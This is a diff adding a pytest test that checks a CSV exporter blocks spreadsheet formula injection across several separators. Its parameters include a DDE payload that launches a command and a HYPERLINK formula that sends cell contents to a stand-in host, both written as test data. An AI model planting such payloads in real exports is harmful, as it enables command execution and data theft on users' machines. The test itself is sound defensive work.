@@ -287,6 +287,18 @@ def test_cells_of_csv(capsys: pytest.CaptureFixture[str]) -> None:
     )
 
 
+@pytest.mark.parametrize("between", [";", "; ", "\t", "\r\n", "\n", ';"', ';" "'])
+@pytest.mark.parametrize("formula", ["=1+cmd|' /C calc'!A0", '=HYPERLINK("http://e/"&A1)', "+1", "-1", "@x", "＝1"])
+def test_no_cell_is_a_formula_where_another_separator_is_used(
+    between: str, formula: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    answers.print_csv(["a", "b"], [("nps", f"great {between}{formula}"), ("x", f"{between}{formula}")])
+    out = capsys.readouterr().out
+    for separator in (",", ";", "\t"):
+        for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator):
+            assert not any(line.lstrip(' "').startswith(tuple("=+-@＝")) for cell in row for line in cell.splitlines())
+
+
 def test_two_columns_of_one_name_are_both_in_the_json(shell: Shell) -> None:
     assert shell.rows("sql", "SELECT 1 AS x, 2 AS x, 3 AS x_2") == [{"x": 1, "x_2": 2, "x_2_2": 3}]
 
